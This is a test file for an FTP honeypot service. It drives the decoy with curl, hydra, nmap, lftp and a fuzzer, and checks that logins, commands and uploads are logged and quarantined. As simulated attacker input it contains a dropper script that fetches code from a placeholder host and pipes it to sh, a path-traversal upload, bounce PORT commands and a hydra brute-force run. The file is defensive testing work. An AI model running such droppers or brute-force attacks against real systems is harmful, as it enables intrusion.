/**
 * FTP end to end: the service on a real loopback socket, driven by curl, hydra and nmap and by a raw
 * client for what those do not show; every login, command and upload lands as an event.
 */
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { installationTag } from '../../src/fabric/netns/names.js';
import { ftp } from '../../src/services/ftp/index.js';
import { seededTree } from '../../src/services/ftp/tree.js';
import { type Served, serveTcp, TestClient, testPersona } from '../../src/services/testing.js';
import { eventually, freePort, type Running, runDecnet, scratchHome, startDecnet } from '../support/cli.js';
import { installationLeftovers } from '../support/netns.js';

const run = promisify(execFile);
const served: Served[] = [];
const scratch: string[] = [];
afterEach(async () => {
  for (const s of served.splice(0)) await s.close();
  for (const dir of scratch.splice(0)) rmSync(dir, { recursive: true, force: true });
});

async function serve(osProfile = 'linux', config: Record<string, string> = {}): Promise<Served> {
  const s = await serveTcp(ftp, { decky: testPersona({ osProfile, hostname: 'files-02' }), config });
  served.push(s);
  return s;
}

async function curl(args: string[]): Promise<{ stdout: string; code: number }> {
  try {
    const { stdout } = await run('curl', ['-s', '--max-time', '20', ...args], { encoding: 'latin1' });
    return { stdout, code: 0 };
  } catch (err) {
    const failed = err as { code: number; stdout: string };
    return { stdout: failed.stdout, code: failed.code };
  }
}

/** Reads one EPSV data connection to its end. */
function readData(port: number): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    const socket = connect({ port, host: '127.0.0.1' });
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    socket.on('error', reject);
    socket.on('close', () => resolve(Buffer.concat(chunks)));
  });
}

async function epsv(client: TestClient): Promise<number> {
  client.send('EPSV\r\n');
  const reply = await client.next(/229 [^\r]*\(\|\|\|(\d+)\|\)\r\n/);
  return Number(/\(\|\|\|(\d+)\|\)/.exec(reply)?.[1]);
}

async function login(client: TestClient, user: string, password: string): Promise<void> {
  await client.next(/^220[^\r]*\r\n/m);
  client.send(`USER ${user}\r\n`);
  await client.next(/331 [^\r]*\r\n/);
  client.send(`PASS ${password}\r\n`);
  await client.next(/230 [^\r]*\r\n/);
}

describe('ftp with curl', () => {
  it('lists the seeded tree as vsftpd, serves a bait file and logs the logins', async () => {
    const { port, sink, errors } = await serve();
    const list = await curl([`ftp://127.0.0.1:${port}/`, '--user', 'root:123456']);
    expect(list.code).toBe(0);
    expect(list.stdout).toMatch(
      // curl turns the listing's CRLFs into LFs (ASCII mode); the columns are vsftpd's.
      /^drwxr-xr-x {4}2 0 {8}0 {12}4096 \w{3} \d\d (\d\d:\d\d| \d{4}) backup\r?\n/m,
    );
    expect(list.stdout).toMatch(/ incoming\r?\n/);
    expect(list.stdout).toMatch(/ pub\r?\n/);
    const file = await curl([`ftp://127.0.0.1:${port}/pub/passwords.txt`]);
    expect(file.code).toBe(0);
    const expected = seededTree(testPersona().seed, 'files-02', Date.now()).get('/pub/passwords.txt');
    expect(expected?.kind === 'file' && expected.content?.toString('latin1')).toBe(file.stdout);
    expect(file.stdout).toContain('files-02 service accounts');
    const attempts = await sink.until('auth_attempt', 2);
    expect(attempts.map((r) => [r.fields.username, r.fields.outcome])).toEqual([
      ['root', 'success'],
      ['anonymous', 'success'],
    ]);
    // curl's anonymous password is its e-mail placeholder: logged as the credential.
    expect(attempts[1]?.fields.secret_printable).toBe('ftp@example.com');
    const commands = sink.records('command');
    expect(commands.map((r) => [r.fields.cmd, r.fields.state])).toContainEqual([
      'RETR passwords.txt',
      'transfer',
    ]);
    expect(commands.map((r) => r.fields.cmd)).toContain('EPSV');
    expect(errors).toEqual([]);
  });

  it('refuses a wrong password and logs it as a failure', async () => {
    const { port, sink } = await serve();
    const result = await curl([`ftp://127.0.0.1:${port}/`, '--user', 'admin:wrong-password']);
    expect(result.code).toBe(67);
    const [attempt] = await sink.until('auth_attempt');
    expect([attempt?.fields.principal, attempt?.fields.secret_printable, attempt?.fields.outcome]).toEqual([
      'admin',
      'wrong-password',
      'failure',
    ]);
    expect(sink.records('command')).toEqual([]);
  });

  it('keeps an upload in quarantine with its SHA-256 and logs file_captured', async () => {
    const { port, sink, dirs } = await serve();
    const dir = mkdtempSync(join(tmpdir(), 'ftp-upload-'));
    scratch.push(dir);
    const body = Buffer.from(Array.from({ length: 200_000 }, (_, i) => (i * 31) % 251));
    writeFileSync(join(dir, 'payload.bin'), body);
    const result = await curl([
      '-T',
      join(dir, 'payload.bin'),
      `ftp://127.0.0.1:${port}/incoming/upload.bin`,
      '--user',
      'root:123456',
    ]);
    expect(result.code).toBe(0);
    const [captured] = await sink.until('file_captured');
    const sha256 = createHash('sha256').update(body).digest('hex');
    expect(captured?.fields).toMatchObject({
      sha256,
      size: String(body.length),
      orig_path: '/incoming/upload.bin',
      method: 'ftp',
      src_ip: '127.0.0.1',
    });
    await served[0]?.instance.close();
    const stored = readFileSync(join(dirs.captures, captured?.fields.stored_as ?? ''));
    expect(stored.equals(body)).toBe(true);
  });

  it('transfers over an active (PORT/EPRT) data connection back to the client', async () => {
    const { port, sink } = await serve();
    const list = await curl(['-P', '127.0.0.1', `ftp://127.0.0.1:${port}/pub/`, '--user', 'root:123456']);
    expect(list.code).toBe(0);
    expect(list.stdout).toMatch(/ passwords\.txt\r?\n/);
    expect(sink.records('command').map((r) => String(r.fields.cmd).split(' ')[0])).toContain('EPRT');
  });
});

describe('ftp dialogue', () => {
  it('shows an upload in later listings of the session, and cleans up what it is told to', async () => {
    const { port, sink } = await serve();
    const client = await TestClient.connect(port);
    await login(client, 'anonymous', 'mallory@evil.example');
    client.send('CWD /incoming\r\n');
    await client.next('250 Directory successfully changed.\r\n');
    const up = await epsv(client);
    client.send('STOR x.sh\r\n');
    const data = connect({ port: up, host: '127.0.0.1' });
    await client.next('150 Ok to send data.\r\n');
    data.end('#!/bin/sh\nwget http://198.51.100.7/x\n');
    await client.next('226 Transfer complete.\r\n');
    const listPort = await epsv(client);
    const listing = readData(listPort);
    client.send('LIST -la\r\n');
    await client.next('226 Directory send OK.\r\n');
    expect((await listing).toString()).toMatch(
      /^-rw-r--r-- {4}1 0 {8}0 {14}37 \w{3} \d\d \d\d:\d\d x\.sh\r\n$/,
    );
    client.send('SIZE x.sh\r\n');
    await client.next('213 37\r\n');
    client.send('RNFR x.sh\r\n');
    await client.next('350 Ready for RNTO.\r\n');
    client.send('RNTO y.sh\r\n');
    await client.next('250 Rename successful.\r\n');
    client.send('DELE y.sh\r\n');
    await client.next('250 Delete operation successful.\r\n');
    client.send('MKD tools\r\n');
    await client.next('257 "/incoming/tools" created\r\n');
    client.send('PWD\r\n');
    await client.next('257 "/incoming" is the current directory\r\n');
    client.send('QUIT\r\n');
    await client.next('221 Goodbye.\r\n');
    await client.closed;
    await sink.until('file_captured');
    expect(sink.records('auth_attempt')[0]?.fields.secret_printable).toBe('mallory@evil.example');
  });

  it('answers like vsftpd: unknown commands, long lines, bounce PORTs, AUTH TLS, login required', async () => {
    const { port, sink } = await serve();
    const client = await TestClient.connect(port);
    await client.next('220 (vsFTPd 3.0.5)\r\n');
    client.send('LIST\r\n');
    await client.next('530 Please login with USER and PASS.\r\n');
    client.send('AUTH TLS\r\n');
    await client.next('530 Please login with USER and PASS.\r\n');
    client.send('USER root\r\nPASS not-a-common-one\r\n');
    await client.next('530 Login incorrect.\r\n');
    client.send('USER ubuntu\r\nPASS admin\r\n');
    await client.next('230 Login successful.\r\n');
    client.send('SYST\r\nXYZZY\r\n');
    await client.next('215 UNIX Type: L8\r\n500 Unknown command.\r\n');
    client.send(`NOOP ${'A'.repeat(600)}\r\nNOOP\r\n`);
    await client.next('500 Command line too long\r\n200 NOOP ok.\r\n');
    client.send('PORT 10,0,0,9,4,1\r\n');
    await client.next('500 Illegal PORT command.\r\n');
    client.send('EPRT |1|198.51.100.1|2000|\r\n');
    await client.next('500 Illegal PORT command.\r\n');
    client.send('RETR /pub/passwords.txt\r\n');
    await client.next('425 Use PORT or PASV first.\r\n');
    client.send('PASS hunter2-after-login\r\n');
    await client.next("530 Can't change to another user.\r\n");
    client.send('QUIT\r\n');
    await client.closed;
    const commands = sink.records('command').map((r) => [r.fields.cmd, r.fields.state, r.fields.user]);
    expect(commands).toContainEqual(['PASS', 'auth', 'ubuntu']);
    expect(commands).toContainEqual(['RETR /pub/passwords.txt', 'transfer', 'ubuntu']);
    expect(sink.lines.join('\n')).not.toContain('hunter2-after-login');
  });

  it("answers 425 to PASV and EPSV when no listener can be opened on the decky's address", async () => {
    // 203.0.113.5 (TEST-NET-3) is on no interface of this host: listen() fails with EADDRNOTAVAIL.
    const s = await serveTcp(ftp, { decky: testPersona({ ip: '203.0.113.5' }) });
    served.push(s);
    const client = await TestClient.connect(s.port);
    await login(client, 'ftp', 'x@y');
    client.send('PASV\r\nEPSV\r\nLIST\r\n');
    await client.next("425 Can't open data connection.\r\n425 Can't open data connection.\r\n");
    await client.next('425 Use PORT or PASV first.\r\n');
    await client.end();
    expect(s.errors).toEqual([]);
  });

  it('hangs up with 421 after three failed logins', async () => {
    const { port, sink } = await serve();
    const client = await TestClient.connect(port);
    await client.next('220 ');
    for (let i = 0; i < 3; i++) client.send(`USER admin\r\nPASS guess${i}\r\n`);
    await client.next(/530 Login incorrect\.\r\n421 [^\r]*\r\n/);
    await client.closed;
    expect(sink.records('auth_attempt')).toHaveLength(3);
  });

  it('answers as IIS on a Windows decky, with a DOS listing and 534 for AUTH TLS', async () => {
    const { port } = await serve('windows_server');
    const client = await TestClient.connect(port);
    await client.next('220 Microsoft FTP Service\r\n');
    client.send('AUTH TLS\r\n');
    await client.next('534 Local policy on server does not allow TLS secure connections.\r\n');
    client.send('USER anonymous\r\n');
    await client.next('331 Anonymous access allowed, send identity (e-mail name) as password.\r\n');
    client.send('PASS guest@\r\nSYST\r\n');
    await client.next('230 User logged in.\r\n215 Windows_NT\r\n');
    const dataPort = await epsv(client);
    const listing = readData(dataPort);
    client.send('LIST /pub\r\n');
    await client.next('125 Data connection already open; Transfer starting.\r\n226 Transfer complete.\r\n');
    expect((await listing).toString()).toMatch(/^\d\d-\d\d-\d\d {2}\d\d:\d\d[AP]M {10,}\d+ config\.bak\r\n/m);
  });

  it('names the client the persona was told to be', async () => {
    const personas: Array<[string, RegExp]> = [
      ['proftpd', /^220 ProFTPD Server \(Debian\) \[::ffff:127\.0\.0\.1\]\r\n$/],
      ['pureftpd', /^220---------- Welcome to Pure-FTPd \[privsep\] ----------\r\n[\s\S]*220 You will/],
    ];
    for (const [persona, greeting] of personas) {
      const { port } = await serve('linux', { persona });
      const client = await TestClient.connect(port);
      expect(await client.next(/220 [^\r]*\r\n/)).toMatch(greeting);
      await client.end();
    }
  });
});

describe('ftp against attack tools', () => {
  it('hydra: every attempt is an auth_attempt and root gets in with 123456', async () => {
    const { port, sink } = await serve();
    const dir = mkdtempSync(join(tmpdir(), 'ftp-hydra-'));
    scratch.push(dir);
    writeFileSync(join(dir, 'passwords.txt'), 'letmein\nqwerty1\n123456\n');
    const { stdout } = await run(
      'hydra',
      [
        '-l',
        'root',
        '-P',
        join(dir, 'passwords.txt'),
        '-t',
        '1',
        '-s',
        String(port),
        '-I',
        '-f',
        'ftp://127.0.0.1',
      ],
      { timeout: 60_000 },
    );
    expect(stdout).toMatch(/login: root\s+password: 123456/);
    const attempts = sink.records('auth_attempt').map((r) => [r.fields.secret_printable, r.fields.outcome]);
    expect(attempts).toEqual([
      ['letmein', 'failure'],
      ['qwerty1', 'failure'],
      ['123456', 'success'],
    ]);
  }, 60_000);

  it('nmap -sV names each persona as its product', async () => {
    const personas: Array<[string, string, RegExp]> = [
      ['linux', 'auto', /ftp\s+vsftpd 3\.0\.5/],
      ['windows_server', 'auto', /ftp\s+Microsoft ftpd/],
      ['linux', 'proftpd', /ftp\s+ProFTPD/],
      ['linux', 'pureftpd', /ftp\s+Pure-FTPd/],
    ];
    await Promise.all(
      personas.map(async ([os, persona, product]) => {
        const { port } = await serve(os, { persona });
        const { stdout } = await run('nmap', ['-sV', '-Pn', '-n', '-p', String(port), '127.0.0.1'], {
          timeout: 90_000,
        });
        expect(stdout).toMatch(product);
      }),
    );
  }, 120_000);

  it('survives 10,000 random, truncated and malformed inputs and still serves a new client', async () => {
    const { port, errors } = await serve();
    const { fuzzService } = await import('../support/fuzz.js');
    await fuzzService({
      port,
      inputs: 10_000,
      perConnection: 25,
      concurrency: 32,
      seed: 0xf7b,
      corpus: [
        Buffer.from('USER anonymous\r\nPASS a@b\r\nCWD /pub\r\nLIST -la\r\nRETR passwords.txt\r\n'),
        Buffer.from('USER root\r\nPASS 123456\r\nEPSV\r\nSTOR ../../etc/x\r\nRNFR /pub\r\nRNTO /pub/pub\r\n'),
        Buffer.from(
          'USER ftp\r\nPASS x\r\nPORT 127,0,0,1,0,1\r\nEPRT |2|::1|1|\r\nPASV\r\nMKD a\r\nRMD a\r\n',
        ),
        Buffer.from([0xff, 0xf4, 0xff, 0xf2, ...Buffer.from('ABOR\r\nTYPE I\r\nSIZE /\r\nMDTM x\r\n')]),
      ],
    });
    const client = await TestClient.connect(port);
    await client.next('220 (vsFTPd 3.0.5)\r\n');
    await client.end();
    expect(errors).toEqual([]);
  }, 120_000);
});

describe.skipIf(process.getuid?.() !== 0)('ftp passive mode on a netns decky (root)', () => {
  const home = scratchHome();
  const env = { DECNET_HOME: home };
  const subnet = `10.${200 + Math.floor(Math.random() * 50)}.${Math.floor(Math.random() * 250)}.0/24`;
  let up: Running;
  let decky: { name: string; ip: string };

  beforeAll(async () => {
    const apiPort = await freePort();
    up = startDecnet(
      ['up', '--port', String(apiPort), '--driver', 'netns', '--services', 'ftp', '--subnet', subnet],
      env,
    );
    await eventually(
      async () => (await fetch(`http://127.0.0.1:${apiPort}/api/v1/health`)).status === 200,
      'health 200',
      30_000,
    );
    const status = await runDecnet(['status', '--json'], env);
    const [deployed] = JSON.parse(status.stdout) as Array<{ name: string; ip: string }>;
    if (!deployed) throw new Error(`no decky deployed: ${status.stdout} ${up.output()}`);
    decky = deployed;
  }, 60_000);

  afterAll(async () => {
    // Through the running instance: one killed first would leave its namespace until the next `up`.
    await runDecnet(['teardown', '--all'], env).catch(() => undefined);
    if (up.child.exitCode === null) {
      const stuck = setTimeout(() => up.child.kill('SIGKILL'), 10_000);
      up.child.kill('SIGTERM');
      await up.exited;
      clearTimeout(stuck);
    }
    expect(await installationLeftovers(installationTag(home))).toEqual([]);
    rmSync(home, { recursive: true, force: true });
  }, 60_000);

  it('lists the tree to curl over EPSV and over PASV, the data port opened in the namespace', async () => {
    for (const extra of [[], ['--disable-epsv']]) {
      const list = await curl([...extra, `ftp://${decky.ip}/`, '--user', 'root:123456']);
      expect(list.code, `${extra.join(' ')}: ${up.output()}`).toBe(0);
      expect(list.stdout).toMatch(/ incoming\r?\n/);
      expect(list.stdout).toMatch(/ pub\r?\n/);
    }
  });

  it('takes an lftp upload over PASV, serves it back in the session and keeps it in quarantine', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ftp-netns-'));
    scratch.push(dir);
    const body = '#!/bin/sh\nwget -q http://198.51.100.7/x -O /tmp/x && sh /tmp/x\n';
    writeFileSync(join(dir, 'dropper.sh'), body);
    const script = [
      'set ftp:ssl-allow no',
      'set ftp:passive-mode on',
      'set ftp:prefer-epsv no',
      'set net:max-retries 1',
      'set net:timeout 10',
      `open -u root,123456 ftp://${decky.ip}`,
      `put ${join(dir, 'dropper.sh')} -o /incoming/dropper.sh`,
      'cat /incoming/dropper.sh',
    ].join('; ');
    const { stdout } = await run('lftp', ['-c', script], { timeout: 60_000 });
    expect(stdout).toBe(body);
    const captures = join(home, 'captures', decky.name);
    const stored = await eventually(
      () => readdirSync(captures).find((f) => readFileSync(join(captures, f), 'utf8') === body),
      'the upload in quarantine',
    );
    expect(stored).toBeDefined();
  }, 60_000);
});
